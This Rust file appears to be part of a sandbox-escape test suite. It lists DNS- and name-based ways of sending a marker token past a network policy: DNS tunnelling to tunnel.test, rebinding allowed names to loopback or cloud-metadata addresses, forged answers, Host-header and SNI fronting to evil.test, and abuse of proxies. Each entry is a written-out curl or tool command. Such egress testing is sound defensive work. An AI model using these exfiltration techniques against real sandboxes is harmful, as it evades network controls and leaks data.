//! Names as a way out: lookups that carry data, answers that mislead, and claims about whom one talks to.

use std::net::Ipv4Addr;

use trustrun_lab::{Behaviour, Entry, Forger, Forgery, LabBuilder};

use crate::way::{Judge, Must, WAY, Way};

/// Where `relabel.names.test` is: only a lookup of this session's own may say so.
const RELABELLED: Ipv4Addr = Ipv4Addr::new(100, 64, 201, 1);
/// What an HTTPS record hints at, while the name's own address is another.
const HINTED: Ipv4Addr = Ipv4Addr::new(100, 64, 201, 2);
/// A resolver of resolv.conf's where nobody serves: who binds its address is the resolver.
const UNSERVED: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 55);
/// What names under `names.example.org`, where anybody could have registered them, say that they are.
const REBOUND: [(&str, Ipv4Addr); 4] = [
    ("loopback", Ipv4Addr::LOCALHOST),
    ("private", Ipv4Addr::new(10, 11, 12, 13)),
    ("metadata", Ipv4Addr::new(169, 254, 169, 254)),
    ("unspecified", Ipv4Addr::UNSPECIFIED),
];

/// The lab of this family.
pub(crate) fn lab(mut builder: LabBuilder) -> LabBuilder {
    for (label, address) in REBOUND {
        builder = builder.name(&format!("{label}.names.example.org"), Entry::new().a(address));
        if !address.is_loopback() && !address.is_unspecified() {
            builder = builder.address(address.into());
        }
    }
    let hint = Forger::new(|query| vec![https_hint(query)]);
    builder
        .address(UNSERVED.into())
        .name("relabel.names.test", Entry::new().a(RELABELLED))
        .name("hint.names.test", Entry::new().a(trustrun_lab::HONEST).behaviour(Behaviour::Raw(hint)))
        .name("alias.evil.test", Entry::new().cname("api.allowed.test"))
        .name("*.tunnel.test", Entry::new().a(trustrun_lab::EVIL))
}

/// A resolv.conf with the lab's resolver and the one that nobody serves.
pub(crate) fn resolv_conf() -> String {
    format!("nameserver 203.0.113.53\nnameserver {UNSERVED}\n")
}

/// An answer to this query with an HTTPS record (RFC 9460) whose ipv4hint is [`HINTED`].
fn https_hint(query: &[u8]) -> Vec<u8> {
    let mut out = query.to_vec();
    out[2] |= 0x80;
    out[7] = 1;
    // Owner: the question's name; type 65, class IN, ttl 60; priority 1, target ".", ipv4hint.
    let rdata = [&[0, 1, 0, 0, 4, 0, 4][..], &HINTED.octets()].concat();
    out.extend([0xc0, 12, 0, 65, 0, 1, 0, 0, 0, 60, 0, u8::try_from(rdata.len()).expect("short")]);
    out.extend(rdata);
    out
}

/// One line, judged by its token.
macro_rules! says {
    ($id:literal, $title:literal, $line:expr) => {
        Way { id: $id, title: $title, line: $line, judge: Judge::Token, ..WAY }
    };
}

/// One lookup.
macro_rules! asks {
    ($id:literal, $title:literal, $line:expr) => {
        Way { id: $id, title: $title, line: $line, judge: Judge::Asked, ..WAY }
    };
}

/// One line, judged by packets to the way's own address.
macro_rules! reaches {
    ($id:literal, $title:literal, $line:expr) => {
        Way { id: $id, title: $title, line: $line, ..WAY }
    };
}

/// A name is asked, then this address is tried.
macro_rules! rebinds {
    ($id:literal, $title:literal, $label:literal, $address:literal) => {
        Way {
            ..says!(
                $id,
                $title,
                concat!(
                    "{bin}/names udp 1 ",
                    $label,
                    ".names.example.org 203.0.113.53; {bin}/sockets tcp ",
                    $address,
                    " {to6} {token}"
                )
            )
        }
    };
}

/// Hidden inside TLS: only the far end can tell.
const HIDDEN: &[&str] = &["inside-tls"];

pub(crate) const ALL: &[Way] = &[
    asks!("dns_udp", "data in a name that is asked", "{bin}/names udp 1 {token}.tunnel.test 203.0.113.53"),
    Way {
        id: "dns_complaint",
        title: "the kernel's complaint (ICMP) about TrustRun's own answer to a lookup whose socket is closed: it quotes the name",
        judge: Judge::Quoted,
        ..asks!("", "", "{bin}/names udp 1 {token}.tunnel.test 203.0.113.53")
    },
    asks!("dns_tcp", "the same over TCP", "{bin}/names tcp 1 {token}.tunnel.test 203.0.113.53"),
    asks!(
        "dns_type",
        "the same with a type that nobody knows",
        "{bin}/names udp 65280 {token}.tunnel.test 203.0.113.53"
    ),
    Way {
        must: (Must::Told, Must::Told),
        told: &["dns-tunnel"],
        ..asks!(
            "dns_wildcard",
            "data in forty names under an allowed wildcard",
            "{bin}/names many wild.allowed.test 203.0.113.53 {token}"
        )
    },
    reaches!(
        "dns_elsewhere",
        "a lookup at a server that is not the configured resolver",
        "{bin}/names udp 1 api.allowed.test {to}"
    ),
    reaches!("dns_tcp_elsewhere", "the same over TCP", "{bin}/names tcp 1 api.allowed.test {to}"),
    says!("dot", "DNS over TLS at the configured resolver (port 853)", "{bin}/names say 203.0.113.53 853 {token}"),
    reaches!(
        "doh",
        "DNS over HTTPS at a resolver that everybody knows",
        "curl -sk -m 4 https://{to}/dns-query?dns={token} || { echo EPERM; exit 1; }"
    ),
    reaches!("literal", "an address in place of a name", "curl -s -m 4 http://{to}/{token} || { echo EPERM; exit 1; }"),
    Way {
        outside: "{bin}/outside answer {dir}/{token}.sock {to}",
        ..reaches!(
            "cache",
            "a name cache on a unix socket, whose answers are on no wire",
            "{bin}/others resolve {dir}/{token}.sock {to} {token}"
        )
    },
    Way {
        outside: "sh -c '{bin}/names udp 1 relabel.names.test 203.0.113.53 >/dev/null; echo ready; while :; do {bin}/names udp 1 relabel.names.test 203.0.113.53 >/dev/null; done'",
        alone: true,
        ..says!(
            "other_lookup",
            "an address that another process has looked up",
            "{bin}/sockets tcp 100.64.201.1 {to6} {token}"
        )
    },
    says!(
        "forged",
        "forged, unasked and malformed answers, and then the address that they named",
        "{forged}; {bin}/sockets tcp 203.0.113.66 {to6} {token}"
    ),
    asks!(
        "ptr",
        "the name that an address claims to have (PTR)",
        "{bin}/names udp 12 {token}.66.113.0.203.in-addr.arpa 203.0.113.53"
    ),
    asks!(
        "cname",
        "a refused name that is another name for an allowed one",
        "{bin}/names udp 1 {token}.evil.test 203.0.113.53"
    ),
    says!(
        "svcb_hint",
        "an address that an HTTPS record hints at",
        "{bin}/names udp 65 hint.names.test 203.0.113.53; {bin}/sockets tcp 100.64.201.2 {to6} {token}"
    ),
    rebinds!("rebind_loopback", "an allowed name that says it is 127.0.0.1", "loopback", "127.0.0.1"),
    rebinds!("rebind_private", "an allowed name that says it is a private address", "private", "10.11.12.13"),
    rebinds!(
        "rebind_metadata",
        "an allowed name that says it is the cloud's metadata service",
        "metadata",
        "169.254.169.254"
    ),
    rebinds!("rebind_unspecified", "an allowed name that says it is 0.0.0.0", "unspecified", "0.0.0.0"),
    Way {
        alone: true,
        ..reaches!(
            "own_resolver",
            "playing a resolver that does not answer, and answering oneself",
            "{bin}/names self 203.0.113.55 self.names.test {to}; {bin}/sockets tcp {to} {to6} {token}"
        )
    },
    Way {
        must: (Must::Named, Must::Named),
        limits: HIDDEN,
        ..says!(
            "tls_host",
            "an allowed server name in TLS, and another Host inside it",
            "curl -sS -4 -m 4 https://api.allowed.test/ -H 'Host: {token}.evil.test'"
        )
    },
    Way {
        must: (Must::Told, Must::Told),
        told: &["violation"],
        ..says!(
            "http_host",
            "another Host in plain HTTP to an allowed name",
            "curl -sS -4 -m 4 http://api.allowed.test/ -H 'Host: {token}.evil.test'"
        )
    },
    says!(
        "other_sni",
        "another server name to an allowed name's address",
        "getent ahostsv4 api.allowed.test; curl -sSk -m 4 --connect-to ::203.0.113.10:443 https://{token}.evil.test/"
    ),
    Way {
        must: (Must::Named, Must::Named),
        limits: HIDDEN,
        ..says!(
            "no_sni",
            "no server name at all, and another Host inside TLS",
            "getent ahostsv4 api.allowed.test; curl -sSk -m 4 https://203.0.113.10/ -H 'Host: {token}.evil.test'"
        )
    },
    Way {
        must: (Must::Named, Must::Named),
        limits: HIDDEN,
        ..says!(
            "ech",
            "an allowed server name outside, another one in the encrypted part of the hello (ECH)",
            "getent ahostsv4 api.allowed.test; {bin}/names hello 203.0.113.10 443 api.allowed.test {token}"
        )
    },
    says!(
        "quic",
        "QUIC to an allowed name's address",
        "getent ahostsv4 api.allowed.test; {bin}/names datagram 203.0.113.10 443 {token}"
    ),
    reaches!(
        "proxy_get",
        "an HTTP proxy that is allowed, asked for what is not",
        "curl -sS -m 4 -x http://203.0.113.80:3128 http://{to}:9/{token} & wait"
    ),
    reaches!(
        "proxy_connect",
        "the same by CONNECT",
        "curl -sS -m 4 -p -x http://203.0.113.80:3128 http://{to}:9/{token} & wait"
    ),
    reaches!("proxy_socks4", "a SOCKS4 proxy", "curl -sS -m 4 --socks4 203.0.113.80:1080 http://{to}:9/{token} & wait"),
    reaches!("proxy_socks5", "a SOCKS5 proxy", "curl -sS -m 4 --socks5 203.0.113.80:1080 http://{to}:9/{token} & wait"),
    Way {
        must: (Must::Told, Must::Told),
        told: &["proxy-hides-destination"],
        ..reaches!(
            "proxy_second",
            "a proxy's second request, after one that is allowed",
            "curl -sS -m 4 -x http://203.0.113.80:3128 http://api.allowed.test/ http://{to}:80/{token}"
        )
    },
    Way {
        outside: "sh -c 'echo ready; exec {bin}/names visit 192.0.2.2 4444'",
        must: (Must::Told, Must::Told),
        told: &["direction-in"],
        alone: true,
        ..says!("listen", "waiting for somebody outside to come, and answering", "{bin}/names listen 4444 {token}")
    },
];

/// The questions of `forged`: every forgery that the lab knows.
pub(crate) fn forged() -> String {
    let labels = Forgery::ALL.map(Forgery::label).join(" ");
    format!("for n in {labels}; do {{bin}}/names udp 1 $n.hostile.test 203.0.113.53 & done; wait")
}
